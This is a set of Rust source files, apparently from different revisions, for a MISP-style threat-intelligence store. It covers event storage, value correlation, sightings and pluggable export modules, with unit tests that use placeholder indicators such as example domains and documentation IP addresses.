    /// Copy-on-write: snapshots taken before the update keep the old
    /// body; the event's version and the store generation both bump.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] for unknown ids.
    pub fn update<F: FnOnce(&mut MispEvent)>(&self, id: u64, f: F) -> Result<(), MispError> {
        let mut events = self.events.write();
        let stored = events
            .get_mut(&id)
            .ok_or(MispError::EventNotFound { event_id: id })?;
        // Chained onto the event's linked trace (set at insert) so
        // enrichment/publish mutations stay in the same span tree.
        let mut span = self
            .tracer()
            .map(|t| t.follow(&stored.event.uuid.to_string(), "store", "store_update"));
        if let Some(span) = span.as_mut() {
            span.field("event_id", id);
        }
        let event = Arc::make_mut(&mut stored.event);
        let before: Vec<String> = event
            .attributes
            .iter()
            .map(MispAttribute::correlation_key)
            .collect();
        let tags_before = event.tags.len();
        let was_published = event.published;
        f(event);
        event.timestamp = Timestamp::now().max(event.timestamp);
        stored.version += 1;
        let generation = self.generation.fetch_add(1, Ordering::Release) + 1;
        self.changes.write().push((generation, id));
        if let Some(metrics) = self.metrics.read().as_ref() {
            metrics
                .attributes_written
                .add(event.attributes.len().saturating_sub(before.len()) as u64);
            metrics
                .tags_written
                .add(event.tags.len().saturating_sub(tags_before) as u64);
            if event.published && !was_published {
                metrics.events_published.inc();
            }
        }
        // Refresh the value index for any attributes the closure added.
        let added: Vec<String> = event
            .attributes
            .iter()
            .map(MispAttribute::correlation_key)
            .filter(|key| !before.contains(key))
            .collect();
        drop(events);
        let mut by_value = self.by_value.write();
        for key in added {
            let ids = by_value.entry(key).or_default();
            if !ids.contains(&id) {
                ids.push(id);
            }
        }
        Ok(())
    }

    /// Marks an event published.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] for unknown ids.
    pub fn publish(&self, id: u64) -> Result<MispEvent, MispError> {
        self.update(id, |event| event.published = true)?;
        Ok(self.get(id).expect("updated event exists"))
    }

    /// Event ids whose attributes carry exactly this normalized value.
    pub fn events_with_value(&self, value: &str) -> Vec<u64> {
        self.by_value
            .read()
            .get(&value.trim().to_ascii_lowercase())
            .cloned()
            .unwrap_or_default()
    }

    /// Groups of events sharing a normalized attribute value, straight
    /// from the `by_value` correlation index — no event walk, no body
    /// clones. Ids per group are sorted and deduplicated; only groups
    /// with at least two distinct events are reported. Like
    /// [`MispStore::events_with_value`], entries reflect every value an
    /// event's attributes have ever carried.
    pub fn correlation_groups(&self) -> BTreeMap<String, Vec<u64>> {
        let by_value = self.by_value.read();
        let mut out = BTreeMap::new();
        for (value, ids) in by_value.iter() {
            if ids.len() < 2 {
                continue;
            }
            let mut ids = ids.clone();
            ids.sort_unstable();
            ids.dedup();
            if ids.len() > 1 {
                out.insert(value.clone(), ids);
            }
        }
        out
    }

    /// Runs a filtered search, deep-cloning matching events.
    #[deprecated(note = "use search_linear() for zero-clone versioned results")]
    pub fn search(&self, query: &SearchQuery) -> Vec<MispEvent> {
        self.search_linear(query)
            .into_iter()
            .map(|v| (*v.event).clone())
            .collect()
    }

    /// Runs a filtered search by linear scan, returning shared
    /// (`Arc`) event handles plus their versions, ordered by event id.
    /// This is the reference evaluation the `cais-search` inverted
    /// index is property-tested against: the index must return exactly
    /// these `(id, version)` pairs for the compiled form of `query`.
    pub fn search_linear(&self, query: &SearchQuery) -> Vec<VersionedEvent> {
        let events = self.events.read();
        let mut out: Vec<VersionedEvent> = events
            .values()
            .filter(|s| {
                let event = &s.event;
                if query.published_only && !event.published {
                    return false;
                }
                if let Some(since) = query.since {
                    if event.date < since {
                        return false;
                    }
                }
                if let Some(tag) = &query.tag {
                    if !event.tags.iter().any(|t| t.name() == tag) {
                        return false;
                    }
                }
                if let Some(attr_type) = &query.attr_type {
                    if !event.attributes.iter().any(|a| a.attr_type == *attr_type) {
                        return false;
                    }
                }
                if let Some(needle) = &query.value_contains {
                    let needle = needle.to_ascii_lowercase();
                    if !event
                        .attributes
                        .iter()
                        .any(|a| a.value.to_ascii_lowercase().contains(&needle))
                    {
                        return false;
                    }
                }
                true
            })
            .map(|s| VersionedEvent {
                event: Arc::clone(&s.event),
                version: s.version,
            })
            .collect();
        out.sort_by_key(|v| v.event.id);
        out
    }

    /// Total stored events.
    pub fn len(&self) -> usize {
        self.events.read().len()
    }

    /// Whether the store is empty.
    pub fn is_empty(&self) -> bool {
        self.events.read().is_empty()
    }

    /// Records a sighting of an attribute value against an event.
    ///
    /// # Errors
    ///
    /// Returns [`MispError::EventNotFound`] when the event does not
    /// exist, and [`MispError::InvalidAttributeValue`] when no attribute
    /// of the event carries the value.
    pub fn add_sighting(
        &self,
        event_id: u64,
        value: &str,
        source: impl Into<String>,
        seen_at: Timestamp,
    ) -> Result<(), MispError> {
        let key = value.trim().to_ascii_lowercase();
        {
            let events = self.events.read();
            let stored = events
                .get(&event_id)
                .ok_or(MispError::EventNotFound { event_id })?;
            if !stored
                .event
                .attributes
                .iter()
                .any(|a| a.correlation_key() == key)
            {
                return Err(MispError::InvalidAttributeValue {
                    attr_type: "sighting".to_owned(),
                    value: value.to_owned(),
                });
            }
        }
        self.sightings
            .write()
            .entry(key)
            .or_default()
            .push(EventSighting {
                event_id,
                source: source.into(),
                seen_at,
            });
        if let Some(metrics) = self.metrics.read().as_ref() {
            metrics.sightings.inc();
        }
        Ok(())
    }

    /// All sightings of a value, oldest first.
    pub fn sightings_of(&self, value: &str) -> Vec<EventSighting> {
        let mut out = self
            .sightings
            .read()
            .get(&value.trim().to_ascii_lowercase())
            .cloned()
            .unwrap_or_default();
        out.sort_by_key(|s| s.seen_at);
        out
    }

    /// Number of sightings of a value.
    pub fn sighting_count(&self, value: &str) -> usize {
        self.sightings
            .read()
            .get(&value.trim().to_ascii_lowercase())
            .map_or(0, Vec::len)
    }

    /// Deep-cloned copy of all events, ordered by id.
    #[deprecated(note = "use snapshot()/for_each")]
    pub fn all(&self) -> Vec<MispEvent> {
        let mut out: Vec<MispEvent> = self
            .events
            .read()
            .values()
            .map(|s| (*s.event).clone())
            .collect();
        out.sort_by_key(|e| e.id);
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::AttributeCategory;
    use crate::tag::Tag;

    fn event_with(value: &str) -> MispEvent {
        let mut event = MispEvent::new(format!("event for {value}"));
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            value,
        ));
        event
    }

    #[test]
    fn insert_assigns_sequential_ids() {
        let store = MispStore::new();
        let a = store.insert(event_with("a.example")).unwrap();
        let b = store.insert(event_with("b.example")).unwrap();
        assert_eq!((a, b), (1, 2));
        assert_eq!(store.len(), 2);
    }

    #[test]
    fn insert_rejects_invalid_attributes() {
        let store = MispStore::new();
        let mut event = MispEvent::new("bad");
        event.add_attribute(MispAttribute::new(
            "ip-dst",
            AttributeCategory::NetworkActivity,
            "not-an-ip",
        ));
        assert!(store.insert(event).is_err());
        assert!(store.is_empty());
    }

    #[test]
    fn uuid_lookup() {
        let store = MispStore::new();
        let event = event_with("a.example");
        let uuid = event.uuid;
        let id = store.insert(event).unwrap();
        assert_eq!(store.get_by_uuid(&uuid).unwrap().id, id);
        assert!(store.contains_uuid(&uuid));
        assert!(store.get_by_uuid(&Uuid::new_v4()).is_none());
    }

    #[test]
    fn value_index_and_update() {
        let store = MispStore::new();
        let id = store.insert(event_with("shared.example")).unwrap();
        assert_eq!(store.events_with_value("SHARED.example"), vec![id]);
        // Add another attribute via update; the index must pick it up.
        store
            .update(id, |event| {
                event.add_attribute(MispAttribute::new(
                    "ip-dst",
                    AttributeCategory::NetworkActivity,
                    "203.0.113.9",
                ));
            })
            .unwrap();
        assert_eq!(store.events_with_value("203.0.113.9"), vec![id]);
    }

    #[test]
    fn update_unknown_event_errors() {
        let store = MispStore::new();
        assert!(matches!(
            store.update(42, |_| {}),
            Err(MispError::EventNotFound { event_id: 42 })
        ));
    }

    #[test]
    fn publish_flags_event() {
        let store = MispStore::new();
        let id = store.insert(event_with("a.example")).unwrap();
        assert!(!store.get(id).unwrap().published);
        let published = store.publish(id).unwrap();
        assert!(published.published);
    }

    #[test]
    fn versions_and_generation_track_mutations() {
        let store = MispStore::new();
        assert_eq!(store.generation(), 0);
        let a = store.insert(event_with("a.example")).unwrap();
        let b = store.insert(event_with("b.example")).unwrap();
        assert_eq!(store.generation(), 2);
        assert_eq!(store.event_version(a), Some(0));
        assert_eq!(store.event_version(b), Some(0));

        store.publish(a).unwrap();
        assert_eq!(store.event_version(a), Some(1));
        assert_eq!(store.event_version(b), Some(0));
        assert_eq!(store.generation(), 3);
        assert_eq!(store.event_version(999), None);
    }

    #[test]
    fn snapshot_is_stable_under_copy_on_write() {
        let store = MispStore::new();
        let id = store.insert(event_with("a.example")).unwrap();
        let before = store.snapshot();
        assert_eq!(before.len(), 1);
        assert!(!before.is_empty());
        assert_eq!(before.generation(), store.generation());

        store
            .update(id, |event| event.info = "mutated".into())
            .unwrap();

        // The snapshot still sees the pre-update body; the live store
        // sees the new one and a newer generation.
        assert_eq!(before.events()[0].event.info, "event for a.example");
        assert_eq!(store.get(id).unwrap().info, "mutated");
        assert!(store.generation() > before.generation());

        let after = store.snapshot();
        assert_eq!(after.events()[0].version, before.events()[0].version + 1);
    }

    #[test]
    fn snapshot_and_for_each_are_id_ordered() {
        let store = MispStore::new();
        for value in ["c.example", "a.example", "b.example"] {
            store.insert(event_with(value)).unwrap();
        }
        let snapshot = store.snapshot();
        let ids: Vec<u64> = snapshot.iter().map(|v| v.event.id).collect();
        assert_eq!(ids, vec![1, 2, 3]);

        let mut walked = Vec::new();
        store.for_each(|event| walked.push(event.id));
        assert_eq!(walked, ids);

        let via_into_iter: Vec<u64> = (&snapshot).into_iter().map(|v| v.event.id).collect();
        assert_eq!(via_into_iter, ids);
    }

    #[test]
    fn for_each_versioned_reports_current_versions() {
        let store = MispStore::new();
        let a = store.insert(event_with("a.example")).unwrap();
        let b = store.insert(event_with("b.example")).unwrap();
        store.publish(b).unwrap();

        let mut walked = Vec::new();
        store.for_each_versioned(|event, version| walked.push((event.id, version)));
        assert_eq!(walked, vec![(a, 0), (b, 1)]);
    }

    #[test]
    fn changelog_reports_exactly_what_moved() {
        let store = MispStore::new();
        assert_eq!(store.changed_event_ids_since(0), Some(vec![]));

        let a = store.insert(event_with("a.example")).unwrap();
        let b = store.insert(event_with("b.example")).unwrap();
        let checkpoint = store.generation();
        assert_eq!(store.changed_event_ids_since(0), Some(vec![a, b]));
        assert_eq!(store.changed_event_ids_since(checkpoint), Some(vec![]));

        // Two updates of the same event collapse to one id.
        store.publish(b).unwrap();
        store.update(b, |e| e.info.push('!')).unwrap();
        let c = store.insert(event_with("c.example")).unwrap();
        assert_eq!(store.changed_event_ids_since(checkpoint), Some(vec![b, c]));

        // A generation the store never reached (another store's, or
        // the future) cannot be answered.
        assert_eq!(store.changed_event_ids_since(store.generation() + 1), None);
    }

    #[test]
    fn get_arc_shares_the_stored_body() {
        let store = MispStore::new();
        let id = store.insert(event_with("a.example")).unwrap();
        let one = store.get_arc(id).unwrap();
        let two = store.get_arc(id).unwrap();
        assert!(Arc::ptr_eq(&one, &two));
        let versioned = store.versioned(id).unwrap();
        assert!(Arc::ptr_eq(&one, &versioned.event));
        assert_eq!(versioned.version, 0);
    }

    #[test]
    fn correlation_groups_come_from_the_index() {
        let store = MispStore::new();
        let a = store.insert(event_with("shared.example")).unwrap();
        let b = store.insert(event_with("SHARED.example")).unwrap();
        store.insert(event_with("lonely.example")).unwrap();
        let groups = store.correlation_groups();
        assert_eq!(groups.len(), 1);
        assert_eq!(groups["shared.example"], vec![a, b]);
    }

    #[test]
    fn search_filters_compose() {
        let store = MispStore::new();
        let mut tagged = event_with("tagged.example");
        tagged.add_tag(Tag::tlp_red());
        store.insert(tagged).unwrap();
        let plain_id = store.insert(event_with("plain.example")).unwrap();
        store.publish(plain_id).unwrap();

        let by_tag = store.search_linear(&SearchQuery {
            tag: Some("tlp:red".into()),
            ..SearchQuery::default()
        });
        assert_eq!(by_tag.len(), 1);
        assert!(by_tag[0].event.info.contains("tagged"));

        let published = store.search_linear(&SearchQuery {
            published_only: true,
            ..SearchQuery::default()
        });
        assert_eq!(published.len(), 1);
        assert_eq!(published[0].event.id, plain_id);
        // publish() is an update: the version reflects it.
        assert_eq!(published[0].version, 1);

        let by_value = store.search_linear(&SearchQuery {
            value_contains: Some("PLAIN".into()),
            ..SearchQuery::default()
        });
        assert_eq!(by_value.len(), 1);

        let none = store.search_linear(&SearchQuery {
            attr_type: Some("sha256".into()),
            ..SearchQuery::default()
        });
        assert!(none.is_empty());

        // The deprecated cloning shim stays equivalent.
        #[allow(deprecated)]
        let cloned = store.search(&SearchQuery::default());
        assert_eq!(cloned.len(), store.len());
    }

    #[test]
    fn instrumented_store_counts_outcomes_not_calls() {
        use crate::tag::Tag;
        use cais_telemetry::Registry;

        // Path A: insert a bare event, then add the score attribute,
        // a tag and the published flag via updates.
        let registry_a = Registry::new();
        let store_a = MispStore::new();
        store_a.instrument(&registry_a);
        let id = store_a.insert(event_with("a.example")).unwrap();
        store_a
            .update(id, |event| {
                event.add_attribute(MispAttribute::new(
                    "ip-dst",
                    AttributeCategory::NetworkActivity,
                    "203.0.113.9",
                ));
                event.add_tag(Tag::tlp_red());
            })
            .unwrap();
        store_a.publish(id).unwrap();

        // Path B: insert the fully-built event once.
        let registry_b = Registry::new();
        let store_b = MispStore::new();
        store_b.instrument(&registry_b);
        let mut event = event_with("a.example");
        event.add_attribute(MispAttribute::new(
            "ip-dst",
            AttributeCategory::NetworkActivity,
            "203.0.113.9",
        ));
        event.add_tag(Tag::tlp_red());
        event.published = true;
        store_b.insert(event).unwrap();

        assert_eq!(
            registry_a.snapshot().counters,
            registry_b.snapshot().counters
        );
        let counters = registry_a.snapshot().counters;
        assert_eq!(counters["misp_events_inserted_total"], 1);
        assert_eq!(counters["misp_attributes_written_total"], 2);
        assert_eq!(counters["misp_tags_written_total"], 1);
        assert_eq!(counters["misp_events_published_total"], 1);
    }

    #[test]
    fn traced_mutations_share_one_span_tree() {
        use cais_telemetry::Tracer;

        let tracer = Tracer::new();
        let store = MispStore::new();
        store.set_tracer(&tracer);

        let event = event_with("a.example");
        let uuid = event.uuid;
        let parent = tracer.root("pipeline", "ingest_round");
        let parent_ctx = parent.context();
        let id = store.insert_with_trace(event, Some(parent_ctx)).unwrap();
        drop(parent);
        store.publish(id).unwrap();

        let spans = tracer.snapshot_subsystem("store");
        let insert = spans.iter().find(|s| s.name == "store_insert").unwrap();
        let update = spans.iter().find(|s| s.name == "store_update").unwrap();
        assert_eq!(insert.parent_id, parent_ctx.span_id);
        assert_eq!(insert.trace_id, parent_ctx.trace_id);
        assert_eq!(
            update.parent_id, insert.span_id,
            "publish chains via the uuid link"
        );
        assert_eq!(update.trace_id, parent_ctx.trace_id);
        // The link now points at the update span for the next consumer.
        assert_eq!(
            tracer.linked(&uuid.to_string()).unwrap().span_id,
            update.span_id
        );
    }

    #[test]
    fn concurrent_inserts_get_unique_ids() {
        let store = Arc::new(MispStore::new());
        let mut handles = Vec::new();
        for t in 0..4 {
            let store = Arc::clone(&store);
            handles.push(std::thread::spawn(move || {
                for i in 0..50 {
                    store
                        .insert(event_with(&format!("t{t}-{i}.example")))
                        .unwrap();
                }
            }));
        }
        for handle in handles {
            handle.join().unwrap();
        }
        assert_eq!(store.len(), 200);
        let ids: std::collections::HashSet<u64> =
            store.snapshot().iter().map(|v| v.event.id).collect();
        assert_eq!(ids.len(), 200);
        assert_eq!(store.generation(), 200);
    }
}

#[cfg(test)]
mod sighting_tests {
    use super::*;
    use crate::attribute::AttributeCategory;

    fn event_with(value: &str) -> MispEvent {
        let mut event = MispEvent::new("s");
        event.add_attribute(MispAttribute::new(
            "domain",
            AttributeCategory::NetworkActivity,
            value,
        ));
        event
    }

    #[test]
    fn sightings_accumulate_and_sort() {
        let store = MispStore::new();
        let id = store.insert(event_with("c2.threat.ru")).unwrap();
        store
            .add_sighting(
                id,
                "C2.THREAT.RU",
                "suricata",
                Timestamp::from_unix_secs(200),
            )
            .unwrap();
        store
            .add_sighting(
                id,
                "c2.threat.ru",
                "analyst",
                Timestamp::from_unix_secs(100),
            )
            .unwrap();
        assert_eq!(store.sighting_count("c2.threat.ru"), 2);
        let all = store.sightings_of("c2.threat.ru");
        assert_eq!(all[0].source, "analyst");
        assert_eq!(all[1].source, "suricata");
    }

    #[test]
    fn sighting_requires_matching_attribute() {
        let store = MispStore::new();
        let id = store.insert(event_with("c2.threat.ru")).unwrap();
        assert!(store
            .add_sighting(id, "other.value.ru", "x", Timestamp::EPOCH)
            .is_err());
        assert!(store
            .add_sighting(999, "c2.threat.ru", "x", Timestamp::EPOCH)
            .is_err());
        assert_eq!(store.sighting_count("other.value.ru"), 0);
    }
}
