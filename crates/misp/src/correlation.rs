//! MISP-style value correlation across events.
//!
//! MISP automatically correlates events whose attributes share a value;
//! the paper's operational module relies on this to "perform basic
//! automated correlation steps, when some cIoCs are received, before
//! performing the heuristic analysis" (Section III-B1).

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::store::MispStore;

/// One correlation hit: a shared value linking two events.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Correlation {
    /// The shared (normalized) attribute value.
    pub value: String,
    /// The other event carrying the value.
    pub other_event_id: u64,
}

/// Finds every correlation from one event to the rest of the store.
pub fn correlate_event(store: &MispStore, event_id: u64) -> Vec<Correlation> {
    let Some(event) = store.get(event_id) else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for attribute in &event.attributes {
        let key = attribute.correlation_key();
        for other in store.events_with_value(&key) {
            if other != event_id {
                let hit = Correlation {
                    value: key.clone(),
                    other_event_id: other,
                };
                if !out.contains(&hit) {
                    out.push(hit);
                }
            }
        }
    }
    out
}

/// The store-wide correlation graph: shared value → the (sorted, deduped)
/// events carrying it. Only values appearing in at least two events are
/// reported.
pub fn correlation_graph(store: &MispStore) -> BTreeMap<String, Vec<u64>> {
    let mut graph: BTreeMap<String, Vec<u64>> = BTreeMap::new();
    for event in store.all() {
        for attribute in &event.attributes {
            graph
                .entry(attribute.correlation_key())
                .or_default()
                .push(event.id);
        }
    }
    graph.retain(|_, ids| {
        ids.sort_unstable();
        ids.dedup();
        ids.len() > 1
    });
    graph
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};
    use crate::event::MispEvent;

    fn event(info: &str, values: &[&str]) -> MispEvent {
        let mut e = MispEvent::new(info);
        for v in values {
            e.add_attribute(MispAttribute::new(
                "domain",
                AttributeCategory::NetworkActivity,
                *v,
            ));
        }
        e
    }

    #[test]
    fn shared_value_correlates() {
        let store = MispStore::new();
        let a = store
            .insert(event("a", &["shared.example", "only-a.example"]))
            .unwrap();
        let b = store.insert(event("b", &["shared.example"])).unwrap();
        let c = store.insert(event("c", &["only-c.example"])).unwrap();

        let hits = correlate_event(&store, a);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].other_event_id, b);
        assert_eq!(hits[0].value, "shared.example");
        assert!(correlate_event(&store, c).is_empty());
    }

    #[test]
    fn correlation_is_symmetric() {
        let store = MispStore::new();
        let a = store.insert(event("a", &["x.example"])).unwrap();
        let b = store.insert(event("b", &["x.example"])).unwrap();
        assert_eq!(correlate_event(&store, a)[0].other_event_id, b);
        assert_eq!(correlate_event(&store, b)[0].other_event_id, a);
    }

    #[test]
    fn graph_reports_only_shared_values() {
        let store = MispStore::new();
        store
            .insert(event("a", &["shared.example", "solo.example"]))
            .unwrap();
        store.insert(event("b", &["shared.example"])).unwrap();
        let graph = correlation_graph(&store);
        assert_eq!(graph.len(), 1);
        assert_eq!(graph["shared.example"].len(), 2);
    }

    #[test]
    fn duplicate_values_within_one_event_do_not_self_correlate() {
        let store = MispStore::new();
        let id = store
            .insert(event("a", &["dup.example", "dup.example"]))
            .unwrap();
        assert!(correlate_event(&store, id).is_empty());
        assert!(correlation_graph(&store).is_empty());
    }

    #[test]
    fn unknown_event_yields_empty() {
        let store = MispStore::new();
        assert!(correlate_event(&store, 99).is_empty());
    }
}
