//! MISP-style value correlation across events.
//!
//! MISP automatically correlates events whose attributes share a value;
//! the paper's operational module relies on this to "perform basic
//! automated correlation steps, when some cIoCs are received, before
//! performing the heuristic analysis" (Section III-B1).

use std::collections::{BTreeMap, BTreeSet};

use serde::{Deserialize, Serialize};

use crate::store::MispStore;

/// One correlation hit: a shared value linking two events.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
pub struct Correlation {
    /// The shared (normalized) attribute value.
    pub value: String,
    /// The other event carrying the value.
    pub other_event_id: u64,
}

/// Finds every correlation from one event to the rest of the store,
/// sorted by `(value, other_event_id)`.
///
/// Deduplication goes through a [`BTreeSet`], so a value shared with
/// `n` other events costs `O(n log n)` — not the `O(n²)` a
/// contains-scan per hit would (5k events sharing one value used to
/// take ~25M comparisons; see the regression test).
pub fn correlate_event(store: &MispStore, event_id: u64) -> Vec<Correlation> {
    let Some(event) = store.get_arc(event_id) else {
        return Vec::new();
    };
    let mut out: BTreeSet<Correlation> = BTreeSet::new();
    for attribute in &event.attributes {
        let key = attribute.correlation_key();
        for other in store.events_with_value(&key) {
            if other != event_id {
                out.insert(Correlation {
                    value: key.clone(),
                    other_event_id: other,
                });
            }
        }
    }
    out.into_iter().collect()
}

/// The store-wide correlation graph: shared value → the (sorted, deduped)
/// events carrying it. Only values appearing in at least two events are
/// reported.
///
/// Served straight from the store's `by_value` correlation index —
/// no event walk, no body clones (see
/// [`MispStore::correlation_groups`]).
pub fn correlation_graph(store: &MispStore) -> BTreeMap<String, Vec<u64>> {
    store.correlation_groups()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attribute::{AttributeCategory, MispAttribute};
    use crate::event::MispEvent;

    fn event(info: &str, values: &[&str]) -> MispEvent {
        let mut e = MispEvent::new(info);
        for v in values {
            e.add_attribute(MispAttribute::new(
                "domain",
                AttributeCategory::NetworkActivity,
                *v,
            ));
        }
        e
    }

    #[test]
    fn shared_value_correlates() {
        let store = MispStore::new();
        let a = store
            .insert(event("a", &["shared.example", "only-a.example"]))
            .unwrap();
        let b = store.insert(event("b", &["shared.example"])).unwrap();
        let c = store.insert(event("c", &["only-c.example"])).unwrap();

        let hits = correlate_event(&store, a);
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].other_event_id, b);
        assert_eq!(hits[0].value, "shared.example");
        assert!(correlate_event(&store, c).is_empty());
    }

    #[test]
    fn correlation_is_symmetric() {
        let store = MispStore::new();
        let a = store.insert(event("a", &["x.example"])).unwrap();
        let b = store.insert(event("b", &["x.example"])).unwrap();
        assert_eq!(correlate_event(&store, a)[0].other_event_id, b);
        assert_eq!(correlate_event(&store, b)[0].other_event_id, a);
    }

    #[test]
    fn graph_reports_only_shared_values() {
        let store = MispStore::new();
        store
            .insert(event("a", &["shared.example", "solo.example"]))
            .unwrap();
        store.insert(event("b", &["shared.example"])).unwrap();
        let graph = correlation_graph(&store);
        assert_eq!(graph.len(), 1);
        assert_eq!(graph["shared.example"].len(), 2);
    }

    #[test]
    fn duplicate_values_within_one_event_do_not_self_correlate() {
        let store = MispStore::new();
        let id = store
            .insert(event("a", &["dup.example", "dup.example"]))
            .unwrap();
        assert!(correlate_event(&store, id).is_empty());
        assert!(correlation_graph(&store).is_empty());
    }

    #[test]
    fn unknown_event_yields_empty() {
        let store = MispStore::new();
        assert!(correlate_event(&store, 99).is_empty());
    }

    #[test]
    fn hits_are_sorted_and_deduped() {
        let store = MispStore::new();
        let a = store
            .insert(event("a", &["z.example", "a.example"]))
            .unwrap();
        let b = store
            .insert(event("b", &["z.example", "a.example", "a.example"]))
            .unwrap();
        let c = store.insert(event("c", &["a.example"])).unwrap();
        let hits = correlate_event(&store, a);
        assert_eq!(
            hits,
            vec![
                Correlation {
                    value: "a.example".into(),
                    other_event_id: b,
                },
                Correlation {
                    value: "a.example".into(),
                    other_event_id: c,
                },
                Correlation {
                    value: "z.example".into(),
                    other_event_id: b,
                },
            ]
        );
    }

    #[test]
    fn five_thousand_shared_values_stay_sub_second() {
        // Regression: the dedup used to be a contains-scan per hit,
        // O(n²) in the number of correlated events — 5k events sharing
        // one value meant ~25M comparisons.
        let store = MispStore::new();
        let first = store
            .insert(event("seed", &["hot.example", "warm.example"]))
            .unwrap();
        for i in 0..4_999 {
            store
                .insert(event(&format!("e{i}"), &["hot.example", "warm.example"]))
                .unwrap();
        }
        let started = std::time::Instant::now();
        let hits = correlate_event(&store, first);
        let elapsed = started.elapsed();
        assert_eq!(hits.len(), 2 * 4_999);
        assert!(
            elapsed < std::time::Duration::from_secs(1),
            "correlate_event took {elapsed:?}"
        );
    }
}
