//! Extensible export modules.
//!
//! "Thanks to specific export modules, \[events\] can be retrieved in
//! various formats (e.g., MISP JSON, STIX 1.x and STIX 2.x) … the
//! modules in charge to perform the conversion are extensible and can
//! be adapted … in particular if they need to develop their own custom
//! export module, and add it to MISP" (Sections III-B1, III-C2).
//!
//! [`ExportModule`] is that extension point; [`ExportRegistry`] is the
//! set of installed modules, pre-loaded with MISP JSON, STIX 2.0 and
//! CSV.

pub mod csv;
pub mod misp_feed;
pub mod misp_json;
pub mod stix1;
pub mod stix2;

use crate::error::MispError;
use crate::event::MispEvent;

/// A pluggable converter from MISP events to an external format.
pub trait ExportModule: Send + Sync {
    /// The format name used to select the module (`misp-json`,
    /// `stix2`, `csv`, …).
    fn format_name(&self) -> &str;

    /// Serializes one event.
    ///
    /// # Errors
    ///
    /// Returns conversion errors (typically [`MispError::Json`]).
    fn export(&self, event: &MispEvent) -> Result<String, MispError>;
}

/// The installed export modules.
pub struct ExportRegistry {
    modules: Vec<Box<dyn ExportModule>>,
}

impl ExportRegistry {
    /// A registry with the five built-in modules installed: MISP JSON,
    /// STIX 2.0, STIX 1.x XML, MISP feed documents and CSV — the format
    /// set Section III-B1 names.
    pub fn with_builtins() -> Self {
        ExportRegistry {
            modules: vec![
                Box::new(misp_json::MispJsonExport),
                Box::new(stix2::Stix2Export),
                Box::new(stix1::Stix1Export),
                Box::new(misp_feed::MispFeedExport),
                Box::new(csv::CsvExport),
            ],
        }
    }

    /// Installs a custom module (later modules shadow earlier ones with
    /// the same name).
    pub fn install(&mut self, module: Box<dyn ExportModule>) {
        self.modules.push(module);
    }

    /// Exports an event in the named format.
    ///
    /// Returns `None` when no module claims the format.
    pub fn export(&self, format: &str, event: &MispEvent) -> Option<Result<String, MispError>> {
        self.modules
            .iter()
            .rev()
            .find(|m| m.format_name() == format)
            .map(|m| m.export(event))
    }

    /// The installed format names, in registration order.
    pub fn formats(&self) -> Vec<&str> {
        self.modules.iter().map(|m| m.format_name()).collect()
    }
}

impl Default for ExportRegistry {
    fn default() -> Self {
        ExportRegistry::with_builtins()
    }
}

impl std::fmt::Debug for ExportRegistry {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ExportRegistry")
            .field("formats", &self.formats())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builtins_are_registered() {
        let registry = ExportRegistry::with_builtins();
        assert_eq!(
            registry.formats(),
            vec!["misp-json", "stix2", "stix1", "misp-feed", "csv"]
        );
    }

    #[test]
    fn unknown_format_returns_none() {
        let registry = ExportRegistry::with_builtins();
        let event = MispEvent::new("x");
        assert!(registry.export("openioc", &event).is_none());
    }

    #[test]
    fn custom_module_shadows_builtin() {
        struct Custom;
        impl ExportModule for Custom {
            fn format_name(&self) -> &str {
                "csv"
            }
            fn export(&self, _event: &MispEvent) -> Result<String, MispError> {
                Ok("custom!".into())
            }
        }
        let mut registry = ExportRegistry::with_builtins();
        registry.install(Box::new(Custom));
        let out = registry
            .export("csv", &MispEvent::new("x"))
            .unwrap()
            .unwrap();
        assert_eq!(out, "custom!");
    }
}
