//! Extensible export modules.
//!
//! "Thanks to specific export modules, \[events\] can be retrieved in
//! various formats (e.g., MISP JSON, STIX 1.x and STIX 2.x) … the
//! modules in charge to perform the conversion are extensible and can
//! be adapted … in particular if they need to develop their own custom
//! export module, and add it to MISP" (Sections III-B1, III-C2).
//!
//! [`ExportModule`] is that extension point; [`ExportRegistry`] is the
//! set of installed modules, pre-loaded with MISP JSON, STIX 2.0 and
//! CSV. Modules are *streaming*: the required method writes into an
//! [`std::io::Write`] sink so hot paths (the share cache, TAXII pages,
//! sync pushes) can reuse one growable buffer per thread instead of
//! allocating a `String` per event per format.

pub mod csv;
pub mod misp_feed;
pub mod misp_json;
pub mod stix1;
pub mod stix2;

use std::io;

use crate::error::MispError;
use crate::event::MispEvent;

/// A pluggable converter from MISP events to an external format.
///
/// Implementors provide [`ExportModule::write_into`]; the owned-string
/// [`ExportModule::export`] comes for free as a compatibility shim.
/// Serialization must be deterministic: the same event body must
/// always produce the same bytes, because the share cache replays
/// stored bytes in place of fresh serializations.
pub trait ExportModule: Send + Sync {
    /// The format name used to select the module (`misp-json`,
    /// `stix2`, `csv`, …).
    fn format_name(&self) -> &str;

    /// Streams one event's serialized form into `out`.
    ///
    /// # Errors
    ///
    /// Returns conversion errors (typically [`MispError::Json`]) or
    /// [`MispError::Io`] when the sink rejects a write.
    fn write_into(&self, event: &MispEvent, out: &mut dyn io::Write) -> Result<(), MispError>;

    /// Serializes one event to an owned string.
    ///
    /// # Errors
    ///
    /// Returns conversion errors (typically [`MispError::Json`]).
    fn export(&self, event: &MispEvent) -> Result<String, MispError> {
        let mut buf = Vec::with_capacity(1024);
        self.write_into(event, &mut buf)?;
        String::from_utf8(buf)
            .map_err(|err| MispError::Io(io::Error::new(io::ErrorKind::InvalidData, err)))
    }
}

/// The installed export modules.
